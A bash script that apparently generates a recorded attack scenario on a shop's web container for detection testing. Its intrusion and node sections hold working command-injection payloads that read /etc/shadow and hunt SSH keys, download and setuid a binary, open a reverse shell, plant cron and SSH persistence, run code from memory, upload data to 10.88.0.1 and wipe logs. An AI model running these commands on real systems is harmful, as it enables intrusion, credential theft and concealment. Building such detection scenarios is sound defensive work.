#!/bin/bash
# What is recorded: half a minute of a small shop's node. First ordinary work, then an intrusion through the web server,
# an operator at work, and an intruder on the node. Nothing here reaches beyond this machine.

customers() {
  for _ in 1 2 3 4; do curl -s -o /dev/null "http://$SHOP:8080/"; sleep 0.3; done
}

echo "== ordinary work"
customers &
/usr/local/bin/report.sh
ls -l /etc /var/log > /tmp/listing.txt
tar -czf /var/tmp/etc-backup.tgz -C / etc/crontab etc/hosts etc/passwd 2>/dev/null
su deploy -c 'cd && date > deployed.txt && ls -la' > /dev/null
wait

echo "== through the web server"
web() { curl -s -G --data-urlencode "$1" "http://$SHOP:8080/cgi-bin/stock.sh" > /dev/null; sleep 1; }
web 'id; uname -s; ps'
web 'cat /etc/shadow'
web 'grep -rl "PRIVATE KEY" /home; find /home /root -name id_rsa -type f'
web 'wget -q -O /tmp/busybox-worker http://10.88.0.1:8000/busybox-worker; chmod 755 /tmp/busybox-worker; chmod u+s /tmp/busybox-worker; ls -l /tmp'
web '/tmp/busybox-worker hostname'
web 'cp /tmp/busybox-worker /dev/shm/busybox-worker; /dev/shm/busybox-worker uptime'
web 'echo "{\"method\":\"login\"}" | /tmp/busybox-worker nc -w 1 10.88.0.1 3333'
web 'ln -s /etc/shadow /www/stock.txt; ln /etc/passwd /tmp/users'
web 'echo "* * * * * root /tmp/busybox-worker" > /etc/cron.d/worker'
nc -l -p 4444 -w 3 <<< 'id; hostname; exit' > /dev/null &
sleep 0.5
web 'nc 10.88.0.1 4444 -e /bin/sh'
wait
web ': > /var/log/access.log; rm /root/.bash_history'
customers

echo "== an operator looks in"
script -qec "podman exec -it shop-web sh -c 'ps; cat /var/log/access.log'" /dev/null > /dev/null

echo "== on the node"
head -n 1 /etc/shadow > /dev/null
useradd -M -s /bin/bash support
echo 'ssh-ed25519 AAAA example' >> /root/.ssh/authorized_keys
echo '* * * * * root /dev/shm/.update' > /etc/cron.d/update
echo '10.88.0.1 updates.example' >> /etc/hosts
sleep 1
timeout 1 strace -p "$(pgrep -f payments-worker)" -o /dev/null
cp /usr/bin/id /dev/shm/.update && /dev/shm/.update > /dev/null
sleep 1
# Runs a program from memory only. 319 is memfd_create.
perl -e '
  my $name = "kit";
  my $fd = syscall(319, $name, 1);
  open(my $memory, ">&=", $fd) or die;
  open(my $program, "<", "/usr/bin/id") or die;
  print {$memory} do { local $/; <$program> };
  $memory->flush();
  exec {"/proc/self/fd/$fd"} "kthreadd";' > /dev/null
sleep 1
curl -s -T /var/tmp/etc-backup.tgz "http://10.88.0.1:8000/upload" > /dev/null
: > /var/log/auth.log
rm /root/.bash_history
echo "== end"
